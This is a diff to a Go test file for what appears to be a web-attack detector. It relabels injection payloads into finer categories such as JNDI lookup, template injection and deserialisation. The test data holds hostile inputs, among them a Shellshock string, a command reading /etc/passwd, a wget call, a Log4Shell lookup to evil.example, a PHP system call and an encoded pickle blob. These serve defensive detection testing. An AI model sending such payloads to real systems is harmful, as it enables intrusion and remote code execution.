@@ -63,11 +63,11 @@ func TestAttacks(t *testing.T) {
 		{signal.CommandInjection, signal.Certain, "a;cat${IFS}/etc/passwd"},
 		{signal.CommandInjection, signal.Certain, "() { :;}; /bin/bash -c id"},
 		{signal.CommandInjection, signal.Certain, "&& /usr/bin/wget http://x"},
-		{signal.CommandInjection, signal.Certain, "${jndi:ldap://evil.example/a}"},
-		{signal.CommandInjection, signal.Certain, "<!--#exec cmd=\"ls\"-->"},
-		{signal.CommandInjection, signal.Likely, "{{7*7}}"},
-		{signal.CommandInjection, signal.Likely, "<?php system('id');"},
-		{signal.CommandInjection, signal.Likely, "gASVyQAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbA=="},
+		{signal.JNDILookup, signal.Certain, "${jndi:ldap://evil.example/a}"},
+		{signal.ServerInclude, signal.Certain, "<!--#exec cmd=\"ls\"-->"},
+		{signal.TemplateInjection, signal.Likely, "{{7*7}}"},
+		{signal.CodeInjection, signal.Likely, "<?php system('id');"},
+		{signal.Deserialisation, signal.Likely, "gASVyQAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbA=="},
 	}
 	for _, tt := range tests {
 		if got, found := best(t, request.InQuery, "q", tt.text, tt.kind); !found || got < tt.band {
